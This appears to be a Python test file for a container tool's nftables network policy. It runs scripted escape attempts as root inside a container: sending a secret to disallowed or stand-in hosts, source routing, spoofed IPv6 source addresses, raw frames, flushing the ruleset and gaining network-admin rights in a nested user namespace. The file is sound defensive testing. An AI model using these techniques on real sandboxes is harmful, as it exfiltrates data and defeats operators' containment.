"""Ways past a policy of the network. Each is shown to work without the defence, as far as there is one of its own.

What counts is what arrives at the host's end of the container's interface: a look-out there sees every frame.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
from collections.abc import Iterator

import pytest

from hakoniwa.errors import HakoError
from hakoniwa.kernel.security import capabilities
from hakoniwa.network import nft, policy
from hakoniwa.spec.networks import Allowed, Policy
from tests.machines import Machine

SECRET = b"the secret"
HOST, NEIGHBOUR, BOX = "10.9.0.1", "10.9.0.8", "10.9.0.7"
HOST6, NEIGHBOUR6, BOX6 = "fd99::1", "fd99::8", "fd99::7"
FAR, RESOLVER, OTHER = "192.0.2.7", "192.0.2.53", "198.51.100.53"
FAR6, RESOLVER6, OTHER6 = "2001:db8:1::7", "2001:db8:1::53", "2001:db8:2::53"

LIST = Policy(
    default="list",
    allowed=(
        Allowed(network=f"{FAR}/32", port=443, protocol="tcp"),
        Allowed(network=f"{FAR6}/128", port=443, protocol="tcp"),
        Allowed(dns=True),
    ),
)
RESOLVERS = (RESOLVER, RESOLVER6)


class Place(Machine):
    """One of the machines."""

    def socket(self, *kind: int) -> socket.socket:
        with self.inside():
            return socket.socket(*kind)

    def give(self, name: str, *addresses: str) -> None:
        self.links.set(name, up=True)
        self.address(name, *(f"{address}/{64 if ':' in address else 24}" for address in addresses))


class World:
    """A host with a bridge, on which are the box and a neighbour; and all the others, behind the host's uplink."""

    def __init__(self) -> None:
        self.host, self.box, self.neighbour, self.others = self.places = [Place() for _ in range(4)]
        self.host.links.add_bridge("br0")
        self.host.give("br0", HOST, HOST6, "fe80::1")
        bridge = self.host.links.find("br0")
        assert bridge is not None
        for name, place, addresses in (
            ("box", self.box, (BOX, BOX6)),
            ("neighbour", self.neighbour, (NEIGHBOUR, NEIGHBOUR6)),
        ):
            self.host.join(name, place, "eth0", master=bridge.index)
            place.give("eth0", *addresses)
            place.route("eth0", HOST, HOST6)
        self.host.join("uplink", self.others, "eth0")
        self.host.give("uplink", "192.0.2.1", "198.51.100.1", "2001:db8:1::1", "2001:db8:2::1")
        self.others.give("eth0", FAR, RESOLVER, OTHER, FAR6, RESOLVER6, OTHER6)
        self.others.route("eth0", "192.0.2.1", "2001:db8:1::1")
        for setting in ("ipv4/ip_forward", "ipv6/conf/all/forwarding"):
            self.host.setting(f"net/{setting}", "1")
        self._know_each_other()
        self.lookout = self.host.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL
        self.lookout.bind(("box", 0))
        self.lookout.settimeout(20)

    def _know_each_other(self) -> None:
        """Whom the box sends to, it need not look for first: so what it sends has been sent when the call returns."""
        for place, name, addresses in (
            (self.host, "br0", (HOST, HOST6, "fe80::1")),
            (self.neighbour, "eth0", (NEIGHBOUR, NEIGHBOUR6)),
        ):
            link = place.links.find(name)
            assert link is not None
            for address in addresses:
                self.box.run("ip", "neigh", "replace", address, "lladdr", link.mac, "dev", "eth0", "nud", "permanent")

    def close(self) -> None:
        self.lookout.close()
        for place in self.places:
            place.close()

    def enforce(self, wanted: Policy | None = LIST, without: str = "") -> None:
        """Put a policy in force, as it is or without a line of its rules."""
        text = policy.rules(wanted, RESOLVERS)
        if without:
            assert without in text
            text = "\n".join(line.replace(without, "") for line in text.split("\n"))
        nft.run(text, self.box.number, what="test")

    def attack(self, script: str, *more: str) -> str:
        """Run Python in the box as its root, with the usual capabilities and `more`. Returns what it prints."""
        kept = ",".join(["-all", *(f"+{name.removeprefix('cap_')}" for name in (*capabilities.DEFAULT, *more))])
        argv = [
            "nsenter",
            f"--net=/proc/{self.box.pid}/ns/net",
            "setpriv",
            f"--bounding-set={kept}",
            "--inh-caps=-all",
        ]
        done = subprocess.run([*argv, sys.executable, "-c", HEAD + script], capture_output=True, text=True, timeout=50)
        assert not done.stderr, done.stderr
        return done.stdout

    def seen(self) -> list[bytes]:
        """All frames that the box has sent until now."""
        end = os.urandom(16)
        with self.box.inside(), socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sender:
            sender.bind(("eth0", 0))
            sender.send(bytes(12) + b"\x88\xb5" + end)  # for local experiments: no policy stands in the test's way
        frames: list[bytes] = []
        while True:
            frame, about = self.lookout.recvfrom(1 << 16)
            if end in frame:
                return frames
            if about[2] != socket.PACKET_OUTGOING:
                frames.append(frame)

    def leaks(self, script: str, *needles: str, more: tuple[str, ...] = ()) -> bool:
        """Whether an attack has something be sent that holds the secret, or one of these addresses."""
        self.seen()
        self.attack(script, *more)
        wanted = [socket.inet_pton(socket.AF_INET6 if ":" in word else socket.AF_INET, word) for word in needles]
        return any(needle in frame for frame in self.seen() for needle in (SECRET, *wanted))


HEAD = f"""
import os, struct, sys
from socket import *
import socket
SECRET, FAR, FAR6, RESOLVER, RESOLVER6 = {SECRET!r}, {FAR!r}, {FAR6!r}, {RESOLVER!r}, {RESOLVER6!r}
OTHER, OTHER6, HOST, HOST6, BOX, BOX6 = {OTHER!r}, {OTHER6!r}, {HOST!r}, {HOST6!r}, {BOX!r}, {BOX6!r}
def udp(address, port, text=SECRET, family=None):
    family = family or (AF_INET6 if ":" in address else AF_INET)
    with socket.socket(family, SOCK_DGRAM) as s:
        s.setsockopt(SOL_SOCKET, SO_BROADCAST, 1)
        try:
            s.sendto(text, (address, port))
        except OSError as error:
            print(error.strerror)
def tcp(address, port):
    with socket.socket(AF_INET6 if ":" in address else AF_INET) as s:
        s.settimeout(10)
        try:
            s.connect((address, port))
            print("connected")
        except OSError as error:
            print(error.strerror)
"""


@pytest.fixture
def world() -> Iterator[World]:
    made = World()
    yield made
    made.close()


@pytest.fixture
def listener(world: World) -> Iterator[socket.socket]:
    """Somebody at the allowed address and port."""
    with world.others.socket() as server:
        server.bind((FAR, 443))
        server.listen()
        yield server


# What is let through, and what is not


def test_what_is_listed_is_reached_and_names_are_resolved(world: World, listener: socket.socket) -> None:
    world.enforce()
    assert world.attack("tcp(FAR, 443)") == "connected\n"
    for family, address in ((socket.AF_INET, RESOLVER), (socket.AF_INET6, RESOLVER6)):
        with world.others.socket(family, socket.SOCK_DGRAM) as server:
            server.bind((address, 53))
            assert world.attack(f"udp({address!r}, 53)") == ""
            assert server.recv(100) == SECRET
    assert world.attack('s = socket.create_server(("127.0.0.1", 0)); tcp(*s.getsockname())') == "connected\n"
    assert (
        world.attack("s = socket.create_server((BOX6, 0), family=AF_INET6); tcp(*s.getsockname()[:2])") == "connected\n"
    )


ELSEWHERE = {
    "another resolver": "udp(OTHER, 53)",
    "another resolver, IPv6": "udp(OTHER6, 53)",
    "another resolver, tcp": "tcp(OTHER, 53)",
    "another resolver, through a socket of IPv6": 'udp("::ffff:" + OTHER, 53, family=AF_INET6)',
    "another port of the resolver": "udp(RESOLVER, 5353)",
    "another protocol": "udp(FAR, 443)",
    "another port": "tcp(FAR, 80)",
    "another port, IPv6": "tcp(FAR6, 80)",
    "data with the first packet": "s = socket.socket(); s.sendto(SECRET, MSG_FASTOPEN, (FAR, 80))",
    "in fragments": "udp(OTHER, 53, SECRET * 1000)",
    "the host": "udp(HOST, 53)",
    "the host, IPv6": "udp(HOST6, 53)",
    "a neighbour": f"udp({NEIGHBOUR!r}, 80)",
    "a neighbour, IPv6": f"udp({NEIGHBOUR6!r}, 80)",
    "everybody": 'udp("255.255.255.255", 67)',
    "the network's broadcast": 'udp("10.9.0.255", 67)',
    "multicast": 'udp("224.0.0.251", 5353)',
    "multicast of the link": 'udp("ff02::1%eth0", 5353)',
    "an address of the link": 'udp("fe80::1%eth0", 5353)',
    "by the interface": 's = socket.socket(AF_INET, SOCK_DGRAM); s.setsockopt(SOL_SOCKET, 25, b"eth0"); s.sendto(SECRET, (OTHER, 53))',
    "from lo": 's = socket.socket(AF_INET, SOCK_DGRAM); s.setsockopt(SOL_SOCKET, 25, b"lo"); s.sendto(SECRET, (OTHER, 53))',
    "from lo's address": 's = socket.socket(AF_INET, SOCK_DGRAM); s.bind(("127.0.0.1", 0)); s.sendto(SECRET, (OTHER, 53))',
}


@pytest.mark.parametrize("way", ELSEWHERE)
def test_nothing_else_is_reached(world: World, way: str) -> None:
    script = ELSEWHERE[way].join(("try:\n    ", "\nexcept OSError:\n    pass\n"))
    needles = (OTHER, OTHER6, "255.255.255.255", "224.0.0.251", "10.9.0.255")
    meant = [FAR, FAR6] if "FAR" in script else []
    assert world.leaks(script, *needles, *meant) or way.startswith("from lo")  # without the defence
    for wanted in (LIST, Policy(default="none")):
        world.enforce(wanted)
        assert not world.leaks(script, *needles, *meant)
    world.enforce(None)
    assert world.leaks(script, *needles, *meant) or way.startswith("from lo")


def test_who_is_refused_is_told_at_once(world: World) -> None:
    world.enforce()
    assert world.attack("tcp(OTHER, 53)") == "No route to host\n"
    assert world.attack("tcp(OTHER6, 53)") == "Permission denied\n"


LSRR = f"""
s = socket.socket(AF_INET, SOCK_DGRAM)
hops = inet_aton({OTHER!r})
s.setsockopt(IPPROTO_IP, IP_OPTIONS, bytes([131, 3 + 8, 4]) + inet_aton(RESOLVER) + hops + bytes(1))
try:
    s.sendto(SECRET, ({OTHER!r}, 53))
except OSError as error:
    print(error)
"""
ROUTING_HEADER = f"""
s = socket.socket(AF_INET6, SOCK_DGRAM)
# Type 4 (RFC 8754): two segments, the last of which is where it ends up
header = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0) + inet_pton(AF_INET6, {OTHER6!r}) + inet_pton(AF_INET6, RESOLVER6)
s.setsockopt(IPPROTO_IPV6, 57, header)
try:
    s.sendto(SECRET, ({OTHER6!r}, 53))
except OSError as error:
    print(error)
"""


@pytest.mark.parametrize(
    ("script", "line"),
    [(LSRR, "ip hdrlength > 5 drop"), (ROUTING_HEADER, "exthdr rt exists drop")],
    ids=["IPv4", "IPv6"],
)
def test_a_source_route_leads_no_further(world: World, script: str, line: str) -> None:
    """The packet goes to an address that is allowed, and says where it is to go from there."""
    world.enforce(without=line)
    assert world.leaks(script, more=("net_raw",))  # which newer kernels ask for with IPv4
    world.enforce()
    assert not world.leaks(script, more=("net_raw",))


FORGED = f"""
# As {OTHER6}, whose address it is does not matter (man 7 ipv6, IPV6_FREEBIND), to oneself: then the answer is to be sent there.
s = socket.socket(AF_INET6, SOCK_DGRAM)
s.setsockopt(IPPROTO_IPV6, 78, 1)
s.bind((OTHER6, 53))
r = socket.socket(AF_INET6, SOCK_DGRAM)
r.bind((BOX6, PORT))
for sender, address in ((s, (BOX6, PORT)), (r, (OTHER6, 53))):
    try:
        sender.sendto(SECRET, address)
    except OSError as error:
        print(error)
"""


def test_no_answer_is_sent_to_whom_nothing_has_come_from(world: World) -> None:
    """Two defences, each of which suffices."""
    mark = "ct mark 0x68616b6f accept"
    text = policy.rules(LIST, RESOLVERS)
    both = text.replace(policy._FORGED, "").replace(mark, "accept")
    nft.run(both, world.box.number, what="test")
    assert world.leaks(FORGED.replace("PORT", "5001"))
    world.enforce(without=policy._FORGED)
    assert not world.leaks(FORGED.replace("PORT", "5002"))
    nft.run(text.replace(mark, "accept"), world.box.number, what="test")
    assert not world.leaks(FORGED.replace("PORT", "5003"))
    world.enforce()
    assert not world.leaks(FORGED.replace("PORT", "5004"))


def test_nobody_speaks_as_somebody_else(world: World) -> None:
    """A neighbour that is had to answer to whom it may not."""
    as_other = f"""
s = socket.socket(AF_INET6, SOCK_DGRAM)
s.setsockopt(IPPROTO_IPV6, 78, 1)
s.bind((OTHER6, 53))
try:
    s.sendto(SECRET, ({NEIGHBOUR6!r}, 80))
except OSError as error:
    print(error)
"""
    wanted = Policy(default="list", allowed=(Allowed(network=f"{NEIGHBOUR6}/128"),))
    world.enforce(wanted, without=policy._FORGED)
    assert world.leaks(as_other)
    world.enforce(wanted)
    assert not world.leaks(as_other)
    assert world.leaks(f"udp({NEIGHBOUR6!r}, 80)")  # it may be spoken to


# Connections that come in


@pytest.mark.parametrize("wanted", [LIST, Policy(default="none")], ids=["list", "none"])
def test_who_has_come_in_is_answered(world: World, wanted: Policy) -> None:
    world.enforce(wanted)
    for family, address in ((socket.AF_INET, BOX), (socket.AF_INET6, BOX6)):
        with world.box.socket(family) as server, world.others.socket(family) as client:
            server.bind((address, 80))
            server.listen()
            client.settimeout(20)
            client.connect((address, 80))
            with server.accept()[0] as served:
                served.sendall(SECRET)
            assert client.recv(100) == SECRET


def test_what_was_open_to_an_address_is_cut_when_that_is_allowed_no_more(world: World, listener: socket.socket) -> None:
    world.enforce()
    with world.box.socket() as client:
        client.connect((FAR, 443))
        client.setblocking(False)
        served = listener.accept()[0]
        with served:
            client.send(b"before")
            assert served.recv(100) == b"before"
            world.seen()
            policy.replace(world.box.number, Policy(default="none"), ())
            with contextlib.suppress(OSError):
                client.send(SECRET)
            with contextlib.suppress(OSError):
                client.send(SECRET)
            assert not any(SECRET in frame for frame in world.seen())
            policy.replace(world.box.number, LIST, RESOLVERS)
            assert world.attack("tcp(FAR, 443)") == "connected\n"


def test_there_is_no_moment_without_a_policy_when_it_is_replaced(world: World) -> None:
    flood = """
s = socket.socket(AF_INET, SOCK_DGRAM)
print("begun", flush=True)
while True:
    try:
        s.sendto(SECRET, (OTHER, 53))
    except OSError:
        pass
"""
    world.enforce()
    world.seen()
    argv = ["nsenter", f"--net=/proc/{world.box.pid}/ns/net", sys.executable, "-c", HEAD + flood]
    with subprocess.Popen(argv, stdout=subprocess.PIPE) as flooding:
        assert flooding.stdout is not None
        flooding.stdout.readline()
        for _ in range(20):
            policy.replace(world.box.number, Policy(default="none"), ())
            policy.replace(world.box.number, LIST, RESOLVERS)
        flooding.kill()
    assert not any(SECRET in frame for frame in world.seen())


# Who may change it

CHANGES = """
import subprocess
def attempt(*argv):
    done = subprocess.run(argv, capture_output=True, text=True)
    print(argv[0], argv[-1], done.returncode != 0, "ermitted" in done.stderr or "ermission" in done.stderr)
def all():
    attempt("nft", "flush", "ruleset")
    attempt("nft", "delete", "table", "inet", "hakoniwa_policy")
    attempt("ip", "route", "replace", "default", "via", "10.9.0.8")
    attempt("ip", "link", "set", "eth0", "down")
    attempt("ip", "link", "add", "tun9", "type", "veth")
    for option, value in ((36, 7), (19, 1)):  # SO_MARK; IP_TRANSPARENT
        try:
            socket.socket().setsockopt(SOL_SOCKET if option == 36 else IPPROTO_IP, option, value)
            print("set", option)
        except PermissionError:
            pass
    for kind in ((AF_PACKET, SOCK_RAW), (AF_INET, SOCK_RAW, 255)):
        try:
            socket.socket(*kind)
            print("made", kind)
        except PermissionError:
            pass
"""
NESTED = """
import ctypes
assert ctypes.CDLL(None).unshare(0x10000000) == 0  # CLONE_NEWUSER
for path, text in (("setgroups", "deny"), ("uid_map", "0 0 1"), ("gid_map", "0 0 1")):
    with open(f"/proc/self/{path}", "w") as file:
        file.write(text)
with open("/proc/self/status") as file:
    (line,) = [line for line in file if line.startswith("CapEff")]
assert int(line.split()[1], 16) >> 12 & 1, "cap_net_admin"
"""


@pytest.mark.parametrize("nested", [False, True], ids=["as root", "as root of a user namespace made inside"])
def test_root_inside_cannot_change_it(world: World, nested: bool) -> None:
    """In a user namespace of its own making it has cap_net_admin, over nothing that is there already."""
    world.enforce()
    told = world.attack((NESTED if nested else "") + CHANGES + "all()")
    lines = told.splitlines()
    assert len(lines) == 5, told
    assert all(line.endswith("True True") for line in lines), told
    assert not world.leaks("udp(OTHER, 53)")
    # Without the defence
    assert "nft ruleset False" in world.attack(CHANGES + 'attempt("nft", "flush", "ruleset")', "net_admin")
    assert world.leaks("udp(OTHER, 53)")


FRAME = """
s = socket.socket(AF_PACKET, SOCK_DGRAM)
s.sendto(SECRET, ("eth0", 0x88b6, 0, 0, b"\\xff" * 6))
"""


def test_who_makes_frames_is_past_all_rules_which_is_why_cap_net_raw_is_refused(world: World) -> None:
    world.enforce()
    assert world.leaks(FRAME, more=("net_raw",))
    refused = f"try:{FRAME.replace(chr(10), chr(10) + '    ')}\nexcept PermissionError:\n    pass\n"
    assert not world.leaks(refused)


# What cannot be put in force


def test_without_nft_it_is_refused_and_says_what_to_install(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nft, "_PLACES", ())
    with pytest.raises(HakoError) as caught:
        policy.enforce(world.box.number, LIST, RESOLVERS)
    assert caught.value.message == "cannot put the policy of the network in force: nft is not installed"
    assert caught.value.hint == "apt-get install nftables"


def test_dns_without_a_resolver_is_refused(world: World) -> None:
    with pytest.raises(HakoError, match="the container has no resolver"):
        policy.enforce(world.box.number, LIST, ())


def test_what_nft_refuses_is_told_and_nothing_has_changed(world: World) -> None:
    world.enforce()
    with pytest.raises(HakoError, match=r"cannot test: .*syntax error"):
        nft.run(
            "add table inet hakoniwa_policy\ndelete table inet hakoniwa_policy\nnonsense\n",
            world.box.number,
            what="test",
        )
    with pytest.raises(HakoError, match=r"cannot test: .*No such file"):
        nft.run("delete table inet hakoniwa_policy\ndelete table inet none\n", world.box.number, what="test")
    assert not world.leaks("udp(OTHER, 53)")
    own = os.readlink("/proc/thread-self/ns/net")
    assert own == os.readlink("/proc/self/ns/net")


def test_lists_may_overlap_and_take_in_all(world: World) -> None:
    networks = ["0.0.0.0/0", "10.0.0.0/8", "10.9.0.0/16", "::/0", "fd00::/8", "192.0.2.7/32", "192.0.2.6/32"]
    world.enforce(Policy(default="list", allowed=tuple(Allowed(network=word) for word in networks)))
    assert world.leaks("udp(OTHER, 53)")
    assert world.leaks("udp(OTHER6, 53)")
    ports = [Allowed(network=word, port=53, protocol=kind) for word in networks for kind in ("", "tcp", "udp")]
    world.enforce(Policy(default="list", allowed=tuple(ports)))
    assert world.leaks("udp(OTHER, 53)")
    assert not world.leaks("udp(OTHER, 54)")
